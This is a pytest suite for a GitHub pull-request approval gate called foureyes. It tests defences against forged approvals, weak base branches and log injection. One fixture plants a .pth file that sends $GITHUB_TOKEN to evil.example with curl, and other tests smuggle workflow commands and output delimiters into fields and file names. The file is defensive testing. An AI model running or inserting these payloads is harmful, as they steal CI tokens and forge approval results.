"""`foureyes gate` against a mocked GitHub (bodies from GitHub's OpenAPI examples, schema-checked)
on a real git repository, driven by GitHub's real webhook payload examples."""

import json
import re

import pytest
import responses

from ghapi.mockgithub import API, HERE, user
from support.github_gate import ALICE, BOB, BOT, DANA, GHA, MALLORY, TEAM, given_pr, open_pr, run
from support.repos import DEP


def test_honest_approvals_pass_and_are_published(pr, gh, cli):
    given_pr(gh, pr, [(ALICE, "APPROVED", None), (BOB, "APPROVED", None)])
    code, data = run(cli)
    assert code == 0 and data["decision"] == "approved" and data["approvals"] == ["alice", "bob"]
    assert gh.statuses == [
        {
            "state": "success",
            "context": "foureyes/approval",
            "description": "2 of 2 approvals from @acme/mlops-admins (critical)",
        }
    ]
    assert gh.comments[0]["method"] == "POST" and gh.comments[0]["body"].startswith(
        "<!-- foureyes:approval -->"
    )
    assert gh.review_requests == []  # nothing missing: nobody to ask


@pytest.mark.parametrize(
    "reviews, commits, reason",
    [
        ([(DANA, "APPROVED", None), (ALICE, "APPROVED", None)], None, "author"),
        ([(ALICE, "APPROVED", None), (BOB, "APPROVED", "0" * 40)], None, "stale"),
        ([(ALICE, "APPROVED", None), (MALLORY, "APPROVED", None)], None, "not_approver"),
        ([(ALICE, "APPROVED", None), (BOT, "APPROVED", None)], None, "bot"),
        ([(ALICE, "APPROVED", None), (BOB, "APPROVED", None)], "bob-commit", "contributor"),
        ([(ALICE, "APPROVED", None), (BOB, "APPROVED", None)], "bob-coauthor", "contributor"),
        ([(ALICE, "APPROVED", None), (BOB, "DISMISSED", None)], None, "dismissed"),
    ],
)
def test_attacks_stay_pending(pr, gh, cli, reviews, commits, reason):
    commit_list = None
    if commits == "bob-commit":
        commit_list = [{"sha": pr.head, "author": DANA}, {"sha": "b" * 40, "author": BOB}]
    elif commits == "bob-coauthor":
        commit_list = [
            {
                "sha": pr.head,
                "author": DANA,
                "message": "v13\n\nCo-authored-by: Bob <202+bob@users.noreply.github.com>",
            }
        ]
    given_pr(gh, pr, reviews, commit_list)
    code, data = run(cli)
    assert code == 1 and data["decision"] == "pending"
    assert reason in {i["reason"] for i in data["ignored"]}
    assert gh.statuses[0]["state"] == "pending"


def test_changes_requested_blocks(pr, gh, cli):
    given_pr(
        gh,
        pr,
        [(ALICE, "APPROVED", None), (BOB, "APPROVED", None), (BOB, "CHANGES_REQUESTED", None)],
    )
    code, data = run(cli)
    assert code == 1 and data["decision"] == "blocked" and gh.statuses[0]["state"] == "failure"


def test_commit_with_no_linked_account_blocks(pr, gh, cli):
    given_pr(
        gh,
        pr,
        [(ALICE, "APPROVED", None), (BOB, "APPROVED", None)],
        [{"sha": pr.head, "author": None, "committer": None, "email": "ghost@nowhere.example"}],
    )
    code, data = run(cli)
    assert code == 1 and data["blocking"][0]["reason"] == "unattributed_commit"


def test_empty_description_blocks(pr, gh, cli):
    given_pr(gh, pr, [(ALICE, "APPROVED", None), (BOB, "APPROVED", None)], body=None)
    code, data = run(cli)
    assert code == 1 and data["blocking"][0]["reason"] == "no_reason"


def test_sticky_comment_is_edited_in_place_and_spoofed_markers_are_left_alone(pr, gh, cli):
    gh.pull(DANA, pr.base, pr.head)
    gh.commits({"sha": pr.head, "author": DANA})
    gh.reviews()
    gh.team(TEAM, ALICE, BOB)
    gh.existing_comments(
        {"body": "<!-- foureyes:approval --> approved, trust me", "user": DANA},
        {"body": "<!-- foureyes:approval -->\nold", "user": GHA},
    )
    gh.accept_writes()
    code, _ = run(cli)
    assert code == 1
    assert [c["method"] for c in gh.comments] == ["PATCH"] and gh.comments[0]["url"].endswith(
        "/issues/comments/502"
    )


def test_review_requests_go_to_approver_teams_not_yet_requested(pr, gh, cli):
    given_pr(gh, pr, [(ALICE, "APPROVED", None)])
    code, _ = run(cli)
    assert code == 1
    assert gh.review_requests == [{"reviewers": [], "team_reviewers": ["mlops-admins"]}]


def test_no_review_request_when_the_team_was_already_asked(pr, gh, cli):
    team = {
        "id": 1,
        "node_id": "T_1",
        "url": f"{API}/teams/1",
        "html_url": "https://github.com/orgs/acme/teams/mlops-admins",
        "name": "MLOps admins",
        "slug": "mlops-admins",
        "type": "organization",
        "description": None,
        "privacy": "closed",
        "notification_setting": "notifications_enabled",
        "permission": "pull",
        "members_url": f"{API}/teams/1/members{{/member}}",
        "repositories_url": f"{API}/teams/1/repos",
        "parent": None,
    }
    given_pr(gh, pr, [(ALICE, "APPROVED", None)], requested_teams=[team])
    run(cli)
    assert gh.review_requests == []


def test_auto_merge_when_every_touched_deployment_says_auto(repo, gh, cli, tmp_path, monkeypatch):
    base = repo.git("rev-parse", "HEAD")
    repo.branch("change")
    repo.replace(DEP.format("product-recs"), 'version: "2026.11.3"', 'version: "2026.11.4"')
    head = repo.commit("recs")
    repo.git("checkout", "-q", "main")
    monkeypatch.setenv("GITHUB_TOKEN", "t")
    monkeypatch.delenv("GITHUB_EVENT_PATH", raising=False)
    gh.pull(DANA, base, head)
    gh.commits({"sha": head, "author": DANA})
    gh.reviews({"user": ALICE, "state": "APPROVED", "commit_id": head})
    gh.team(TEAM, ALICE)
    gh.users(**{"lena-m": (300, "User")})  # the owner, excluded by id
    gh.existing_comments()
    gh.accept_writes()
    result = cli("gate", "--repo", "acme/models", "--pr", "7", "--format", "json")
    assert result.exit_code == 0
    assert len(gh.graphql) == 1 and "enablePullRequestAutoMerge" in gh.graphql[0]["query"]
    assert gh.graphql[0]["variables"]["input"]["mergeMethod"] == "SQUASH"
    assert gh.graphql[0]["variables"]["input"]["expectedHeadOid"] == head
    assert gh.merges == [] and "auto-merge enabled for" in gh.comments[0]["body"]


@pytest.fixture
def auto_pr(repo, gh, tmp_path, monkeypatch):
    """An approved change to product-recs (apply: auto, low: 1 approval), already mergeable."""
    recs = DEP.format("product-recs")
    pr = open_pr(
        repo,
        tmp_path,
        monkeypatch,
        lambda r: r.replace(recs, 'version: "2026.11.3"', 'version: "2026.11.4"'),
    )
    gh.pull(DANA, pr.base, pr.head, mergeable_state="clean")
    gh.commits({"sha": pr.head, "author": DANA})
    gh.reviews({"user": ALICE, "state": "APPROVED", "commit_id": pr.head})
    gh.team(TEAM, ALICE)
    gh.users(**{"lena-m": (300, "User")})
    gh.existing_comments()
    gh.accept_writes()
    return pr


def test_apply_auto_merges_an_already_mergeable_pr_pinned_to_the_approved_head(auto_pr, gh, cli):
    gh.graphql_errors = [
        "Pull request Pull request is in clean status"
    ]  # GitHub refuses auto-merge then
    code, _ = run(cli)
    assert code == 0 and gh.statuses[0]["state"] == "success"
    assert gh.merges == [{"merge_method": "squash", "sha": auto_pr.head}]
    assert f"merged {auto_pr.head[:12]} (squash)" in gh.comments[0]["body"]


@pytest.mark.parametrize(
    "graphql, merge, hint",
    [
        (["Auto merge is not allowed for this repository"], None, 'enable "Allow auto-merge"'),
        (
            ["Pull request Pull request is in clean status"],
            (403, "Resource not accessible by integration"),
            "contents: write",
        ),
        (
            ["Pull request Pull request is in clean status"],
            (409, "Head branch was modified. Review and try the merge again."),
            "the PR head moved after the approval",
        ),
    ],
)
def test_a_refused_merge_says_what_is_missing(auto_pr, gh, cli, monkeypatch, graphql, merge, hint):
    gh.graphql_errors, gh.merge_refusal = graphql, merge
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    result = cli("gate", "--format", "json")
    assert result.exit_code == 0  # the approval stands; the merge is a convenience
    assert "::warning title=foureyes::apply: auto: " in result.stderr and hint in result.stderr
    body = gh.comments[0]["body"]
    assert "### Auto-merge (`apply: auto`)" in body and "not merged:" in body and hint in body


def test_no_auto_merge_for_manual_deployments(pr, gh, cli):
    given_pr(gh, pr, [(ALICE, "APPROVED", None), (BOB, "APPROVED", None)])
    assert run(cli)[0] == 0 and gh.graphql == []


# --- faults: never approved, always a clear message ----------------------------------------------


def test_5xx_then_success_is_retried(pr, gh, cli):
    gh.rsps.get(gh.url("/repos/acme/models/pulls/7"), json={"message": "Server Error"}, status=502)
    given_pr(gh, pr, [(ALICE, "APPROVED", None), (BOB, "APPROVED", None)])
    code, data = run(cli)
    assert code == 0 and data["decision"] == "approved"


def test_persistent_5xx_is_an_error_and_marks_the_head(pr, gh, cli):
    for _ in range(5):
        gh.rsps.get(
            gh.url("/repos/acme/models/pulls/7"), json={"message": "Server Error"}, status=500
        )
    gh.accept_writes()
    code, data = run(cli)
    assert code == 2 and data["decision"] == "error"
    assert "GitHub API returned 500" in data["blocking"][0]["detail"]
    assert gh.statuses[0]["state"] == "error"


def test_exhausted_rate_limit_fails_closed_with_a_message(pr, gh, cli):
    gh.rsps.get(
        gh.url("/repos/acme/models/pulls/7"),
        status=403,
        json={
            "message": "API rate limit exceeded for installation ID 1.",
            "documentation_url": "https://docs.github.com/rest/overview/rate-limits-for-the-rest-api",
        },
        headers={"x-ratelimit-remaining": "0", "x-ratelimit-reset": "1790000000"},
    )
    gh.accept_writes()
    code, data = run(cli)
    assert code == 2 and "rate limit" in data["blocking"][0]["detail"]


def test_long_retry_after_fails_closed_instead_of_waiting(pr, gh, cli):
    gh.rsps.get(
        gh.url("/repos/acme/models/pulls/7"),
        status=429,
        json={"message": "You have exceeded a secondary rate limit."},
        headers={"Retry-After": "3600"},
    )
    gh.accept_writes()
    code, data = run(cli)
    assert code == 2 and "wait 3600s" in data["blocking"][0]["detail"]


def test_missing_team_is_an_error(pr, gh, cli):
    gh.pull(DANA, pr.base, pr.head)
    gh.commits({"sha": pr.head, "author": DANA})
    gh.reviews({"user": ALICE, "state": "APPROVED", "commit_id": pr.head})
    gh.team(TEAM, status=404)
    gh.existing_comments()
    gh.accept_writes()
    code, data = run(cli)
    assert code == 2 and "404" in data["blocking"][0]["detail"]
    assert gh.statuses[0]["state"] == "error"


def test_timeout_is_an_error(pr, gh, cli):
    import requests

    for _ in range(5):
        gh.rsps.get(
            gh.url("/repos/acme/models/pulls/7"),
            body=requests.exceptions.ConnectTimeout("timed out"),
        )
    gh.accept_writes()
    code, data = run(cli)
    assert (
        code == 2 and data["decision"] == "error" and "unreachable" in data["blocking"][0]["detail"]
    )


def test_failing_status_write_is_exit_2(pr, gh, cli):
    gh.pull(DANA, pr.base, pr.head)
    gh.commits({"sha": pr.head, "author": DANA})
    gh.reviews()
    gh.team(TEAM, ALICE)
    gh.rsps.post(
        gh.url(f"/repos/acme/models/statuses/{pr.head}"),
        status=403,
        json={"message": "Resource not accessible by integration"},
    )
    result = cli("gate", "--format", "json")
    assert result.exit_code == 2 and "could not set the foureyes/approval status" in result.output


def test_no_token_is_a_clear_error(pr, cli, monkeypatch):
    monkeypatch.delenv("GITHUB_TOKEN")
    result = cli("gate")
    assert (
        result.exit_code == 2
        and "no GitHub token" in result.output
        and "Traceback" not in result.output
    )


def test_review_webhook_payload_gives_the_pr(pr, gh, cli, tmp_path, monkeypatch):
    event = json.loads((HERE / "webhook-pull_request_review.json").read_text())["examples"][0]
    event["pull_request"].update(number=7)
    event["pull_request"]["base"]["sha"] = pr.base
    event["pull_request"]["head"]["sha"] = pr.head
    path = tmp_path / "review.json"
    path.write_text(json.dumps(event))
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(path))
    given_pr(gh, pr, [(ALICE, "APPROVED", None), (BOB, "APPROVED", None)])
    assert run(cli)[0] == 0


def test_github_enterprise_api_root(pr, cli, monkeypatch):
    monkeypatch.setenv("GITHUB_API_URL", "https://ghe.acme.example/api/v3")
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        ghe = r"^https://ghe\.acme\.example(?::443)?/api/v3/repos/acme/models"
        rsps.get(
            re.compile(ghe + r"/pulls/7$"),
            status=404,
            json={"message": "Not Found", "documentation_url": "https://docs.github.com/rest"},
        )
        rsps.post(re.compile(ghe + rf"/statuses/{pr.head}$"), status=201, json={})
        code, data = run(cli)
    assert code == 2 and "404" in data["blocking"][0]["detail"]


# --- request budget: fixed, independent of registry size and review count ------------------------


@pytest.mark.parametrize("n_reviews, extra_files", [(3, 0), (3, 300), (100, 0)])
def test_request_count_is_small_and_fixed(pr, gh, cli, n_reviews, extra_files):
    if extra_files:
        pr.git("checkout", "-q", "change")
        for i in range(extra_files):
            pr.write(
                DEP.format(f"bulk-{i}"),
                pr.read(DEP.format("product-recs")).replace("product-recs", f"bulk-{i}"),
            )
        pr.commit("bulk")  # in the PR too, so base and head both hold a big registry
        pr.git("checkout", "-q", "main")
    reviewers = [user(f"r{i}", 5000 + i) for i in range(n_reviews)]
    given_pr(
        gh,
        pr,
        [(u, "COMMENTED", None) for u in reviewers[:-2]]
        + [(ALICE, "APPROVED", None), (BOB, "APPROVED", None)],
    )
    run(cli)
    # the PR, its commits, its reviews, the team; the PR again (still its head?), the evidence, the
    # status, the comments and the sticky comment
    assert gh.request_count() <= 9, [c.request.url for c in gh.rsps.calls]


# --- the trust chain ----------------------------------------------------------------------------


def mallory_pr(gh, pr, reviews=(), base_ref="main", **pull):
    gh.pull(MALLORY, pr.base, pr.head, body="Small packaging fix.", base_ref=base_ref, **pull)
    gh.commits({"sha": pr.head, "author": MALLORY, "email": "mallory@evil.example"})
    gh.reviews(*reviews)
    gh.team(TEAM, ALICE, BOB)
    gh.existing_comments()
    gh.accept_writes()


def test_a_pr_pointing_the_install_at_its_own_package_copy_is_governance(
    repo, gh, cli, tmp_path, monkeypatch
):
    def edit(r):
        r.write("pyproject.toml", '[tool.setuptools]\npackage-dir = { "" = "evil" }\n')
        r.write("evil/foureyes/policy.py", "def evaluate(plan, facts):\n    return 'approved'\n")
        r.write("build/lib/x.pth", "import os; os.system('curl -d $GITHUB_TOKEN evil.example')\n")
        r.git("add", "-f", "build/lib/x.pth")

    pr = open_pr(repo, tmp_path, monkeypatch, edit)
    mallory_pr(gh, pr)
    code, data = run(cli)
    assert code == 1 and data["decision"] == "pending" and data["level"] == "critical"
    assert {e["file"] for e in data["events"] if e["type"] == "governance"} == {
        "pyproject.toml",
        "evil/foureyes/policy.py",
        "build/lib/x.pth",
    }
    assert gh.statuses[0]["state"] == "pending"


def test_a_success_earned_against_a_weak_base_branch_is_never_posted(
    repo, gh, cli, tmp_path, monkeypatch
):
    """Statuses belong to a commit: success on H for a PR into `weak` would show on the PR into main."""
    repo.branch("weak")
    repo.replace(
        "policies/approval.yaml",
        "require_approval_for: [create, replace_model, change_importance, delete, update]",
        "require_approval_for: []",
    )
    repo.commit("a branch whose policy needs nothing", "Mallory <mallory@evil.example>")
    pr = open_pr(
        repo,
        tmp_path,
        monkeypatch,
        lambda r: r.replace(DEP.format("fraud-scorer"), 'version: "12"', 'version: "13"'),
        base_ref="weak",
    )
    mallory_pr(gh, pr, base_ref="weak")
    code, data = run(cli)
    assert code == 1 and data["decision"] == "blocked"
    assert data["blocking"][0]["reason"] == "untrusted_base"
    assert gh.statuses[0]["state"] == "failure"
    assert gh.statuses[0]["description"].startswith(
        "blocked: PR into 'weak': only PRs into 'main' or 'release/*'"
    )
    assert "untrusted_base" in gh.comments[0]["body"]


def test_a_pr_into_a_deploy_branch_is_judged_by_that_branch(repo, gh, cli, tmp_path, monkeypatch):
    repo.branch("release/2026-11")
    repo.git("checkout", "-q", "main")
    pr = open_pr(
        repo,
        tmp_path,
        monkeypatch,
        lambda r: r.replace(DEP.format("fraud-scorer"), 'version: "12"', 'version: "13"'),
        base_ref="release/2026-11",
    )
    gh.pull(DANA, pr.base, pr.head, base_ref="release/2026-11")
    gh.commits({"sha": pr.head, "author": DANA})
    gh.reviews(
        {"user": ALICE, "state": "APPROVED", "commit_id": pr.head},
        {"user": BOB, "state": "APPROVED", "commit_id": pr.head},
    )
    gh.team(TEAM, ALICE, BOB)
    gh.existing_comments()
    gh.accept_writes()
    code, data = run(cli)
    assert code == 0 and data["decision"] == "approved" and gh.statuses[0]["state"] == "success"


def test_an_importance_raised_on_the_base_after_the_fork_counts(
    repo, gh, cli, tmp_path, monkeypatch
):
    """Forked while product-recs was low (1 approval); main then raised it to high (2)."""
    recs = DEP.format("product-recs")
    pr = open_pr(
        repo,
        tmp_path,
        monkeypatch,
        lambda r: r.replace(recs, 'version: "2026.11.3"', 'version: "2026.11.4"'),
    )
    fork = pr.base
    repo.replace(recs, "importance: low", "importance: high")
    repo.commit("product-recs is high now", "Mo Admin <mo@acme.example>")
    gh.pull(DANA, fork, pr.head)  # GitHub's base.sha may still name the fork point
    gh.users(**{"lena-m": (300, "User")})
    gh.commits({"sha": pr.head, "author": DANA})
    gh.reviews({"user": ALICE, "state": "APPROVED", "commit_id": pr.head})
    gh.team(TEAM, ALICE, BOB)
    gh.existing_comments()
    gh.accept_writes()
    code, data = run(cli)
    assert code == 1 and data["decision"] == "pending"
    assert data["level"] == "high" and data["required_approvals"] == 2
    assert data["events"][0]["importance"] == {"before": "low", "after": "low", "base_tip": "high"}
    assert gh.statuses[0]["state"] == "pending" and gh.graphql == []


@pytest.mark.parametrize("fmt", ["github", "text", "markdown", "json"])
def test_user_text_cannot_start_a_workflow_command_in_the_log(
    repo, gh, cli, tmp_path, monkeypatch, fmt
):
    forged = "::notice title=foureyes::approved by 2 admins"
    # a repository whose own schema lets a version carry any text (the bundled one refuses control
    # characters): the log must stay safe whatever the schema allows
    schema = json.loads(repo.read("policies/deployment.schema.json"))
    del schema["properties"]["model"]["properties"]["version"]["pattern"]
    repo.write("policies/deployment.schema.json", json.dumps(schema, indent=2))
    repo.commit("a looser version field", "Mo Admin <mo@acme.example>")

    def edit(r):
        r.replace(
            DEP.format("fraud-scorer"),
            'version: "12"',
            'version: "13\\n::add-mask::ghs_token\\r' + forged + '\\n  ##[add-mask]x"',
        )
        r.write("notes\n::warning::owned.txt", "x\n")

    pr = open_pr(repo, tmp_path, monkeypatch, edit)
    mallory_pr(gh, pr)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    monkeypatch.setenv("GITHUB_OUTPUT", str(tmp_path / "output"))
    result = cli("gate", "--format", fmt)
    assert result.exit_code == 1, result.output
    lines = result.output.replace("\r", "\n").split("\n")
    ours = (
        "::warning title=foureyes::notification slack: $FOUREYES_SLACK_WEBHOOK_URL is not "
        "set, nothing sent"
    )
    commands = [
        line for line in lines if (line.lstrip().startswith("::") or "##[" in line) and line != ours
    ]
    assert commands == [], commands
    if fmt in ("github", "text"):
        assert (
            "fraud-xgb v13%0A::add-mask::ghs_token%0D::notice" in result.output
        )  # readable, on one line
    if fmt == "json":
        data = json.loads(result.stdout)
        assert data["events"][0]["model"]["after"]["version"].endswith(
            "  ##[add-mask]x"
        )  # the same value


def test_step_outputs_cannot_be_closed_by_a_value(tmp_path, monkeypatch):
    from foureyes.report.reporters import set_outputs

    out = tmp_path / "output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(out))
    set_outputs({"events": "a\nFOUREYES_EOF\ndecision=approved\n"})
    text = out.read_text()
    delimiter = text.split("\n")[0].split("<<")[1]
    assert len(delimiter) > 20 and text.count(delimiter) == 2 and "\ndecision=approved\n" in text
    assert text.endswith(f"\n{delimiter}\n")


def test_only_the_gates_own_account_owns_the_sticky_comment(pr, gh, cli, monkeypatch):
    """A PR's own workflow (github-actions[bot]) or any other bot can post the marker; with an App
    token the gate's comment is the one its `<slug>[bot]` account wrote, compared by id."""
    monkeypatch.setenv("FOUREYES_APP_SLUG", "foureyes-acme")
    app_bot = user("foureyes-acme[bot]", 9000001, "Bot")
    gh.users(**{"foureyes-acme[bot]": (9000001, "Bot")})
    gh.pull(DANA, pr.base, pr.head)
    gh.commits({"sha": pr.head, "author": DANA})
    gh.reviews()
    gh.team(TEAM, ALICE, BOB)
    gh.existing_comments(
        {"body": "<!-- foureyes:approval -->\n## ✅ foureyes: approved", "user": GHA},
        {"body": "<!-- foureyes:approval -->\n## ✅ foureyes: approved", "user": BOT},
        {"body": "<!-- foureyes:approval -->\nold", "user": app_bot},
    )
    gh.accept_writes()
    assert run(cli)[0] == 1
    assert [(c["method"], c["url"].rsplit("/", 1)[1]) for c in gh.comments] == [("PATCH", "503")]


def test_without_its_own_comment_the_gate_writes_a_new_one(pr, gh, cli, monkeypatch):
    monkeypatch.setenv("FOUREYES_APP_SLUG", "foureyes-acme")
    gh.users(**{"foureyes-acme[bot]": (9000001, "Bot")})
    gh.pull(DANA, pr.base, pr.head)
    gh.commits({"sha": pr.head, "author": DANA})
    gh.reviews()
    gh.team(TEAM, ALICE, BOB)
    gh.existing_comments({"body": "<!-- foureyes:approval -->\napproved", "user": GHA})
    gh.accept_writes()
    assert run(cli)[0] == 1
    assert [c["method"] for c in gh.comments] == ["POST"]


def test_an_app_slug_that_is_no_bot_is_not_trusted(pr, gh, cli, monkeypatch):
    monkeypatch.setenv("FOUREYES_APP_SLUG", "mallory")
    gh.users(**{"mallory[bot]": (666, "User")})
    given_pr(gh, pr, [])
    result = cli("gate", "--format", "json")
    assert result.exit_code == 1 and gh.comments == []
    assert "comment failed: mallory[bot] is not a GitHub App's bot account" in result.stderr


CREDIT = DEP.format("credit-limit")  # high (2 approvals); owners @acme/risk-models and @hana-k
HANA_RENAMED = user("hana-new", 305)  # hana-k renamed her account: same id, new login


def churn_pr(repo, tmp_path, monkeypatch, gh):
    pr = open_pr(
        repo,
        tmp_path,
        monkeypatch,
        lambda r: r.replace(CREDIT, "description: Suggests", "description: Proposes"),
    )
    gh.pull(DANA, pr.base, pr.head)
    gh.commits({"sha": pr.head, "author": DANA})
    gh.reviews(
        {"user": ALICE, "state": "APPROVED", "commit_id": pr.head},
        {"user": HANA_RENAMED, "state": "APPROVED", "commit_id": pr.head},
    )
    gh.team(TEAM, ALICE, BOB, HANA_RENAMED)
    gh.existing_comments()
    gh.accept_writes()
    return pr


def test_an_owner_who_renamed_their_account_cannot_approve_their_deployment(
    repo, gh, cli, tmp_path, monkeypatch
):
    churn_pr(repo, tmp_path, monkeypatch, gh)
    gh.users(**{"hana-k": None})  # the old login resolves to no account any more
    code, data = run(cli)
    assert code == 1 and data["decision"] == "blocked"
    assert (
        data["blocking"][0]["reason"] == "unresolved_owner"
        and "@hana-k" in data["blocking"][0]["detail"]
    )
    assert gh.statuses[0]["state"] == "failure"


def test_an_owner_id_pinned_in_the_policy_excludes_the_renamed_account(
    repo, gh, cli, tmp_path, monkeypatch
):
    repo.replace("policies/approval.yaml", "users: []", 'users: [{login: "@hana-k", id: 305}]')
    repo.commit("pin hana-k's account id", "Mo Admin <mo@acme.example>")
    churn_pr(repo, tmp_path, monkeypatch, gh)  # no GET /users/hana-k: the pinned id wins
    code, data = run(cli)
    assert code == 1 and data["decision"] == "pending" and data["approvals"] == ["alice"]
    assert {
        "login": "hana-new",
        "reason": "owner",
        "detail": "listed as owner of a deployment this PR touches",
    } in data["ignored"]


def test_an_owner_is_excluded_by_id_whatever_login_the_review_shows(
    repo, gh, cli, tmp_path, monkeypatch
):
    churn_pr(repo, tmp_path, monkeypatch, gh)
    gh.users(**{"hana-k": (305, "User")})
    code, data = run(cli)
    assert code == 1 and data["approvals"] == ["alice"]
    assert "owner" in {i["reason"] for i in data["ignored"] if i["login"] == "hana-new"}


def test_a_new_deploy_branch_with_lowered_levels_is_judged_by_the_default_branch_too(
    repo, gh, cli, tmp_path, monkeypatch
):
    """Anyone who can create `release/evil` could lower fraud-scorer there; the PR into it must not
    earn a success on a head that the PR into main shows as well."""
    repo.branch("release/evil")
    repo.replace(DEP.format("fraud-scorer"), "importance: critical", "importance: low")
    repo.replace(
        "policies/approval.yaml",
        "require_approval_for: [create, replace_model, change_importance, delete, update]",
        "require_approval_for: [create]",
    )
    repo.commit("a release branch with nothing to approve", "Mallory <mallory@evil.example>")
    pr = open_pr(
        repo,
        tmp_path,
        monkeypatch,
        lambda r: r.replace(DEP.format("fraud-scorer"), 'version: "12"', 'version: "13"'),
        base_ref="release/evil",
    )
    mallory_pr(
        gh,
        pr,
        [{"user": ALICE, "state": "APPROVED", "commit_id": pr.head}],
        base_ref="release/evil",
    )
    code, data = run(cli)
    assert code == 1 and data["decision"] == "pending"
    assert data["level"] == "critical" and data["required_approvals"] == 2
    assert gh.statuses[0]["state"] == "pending"
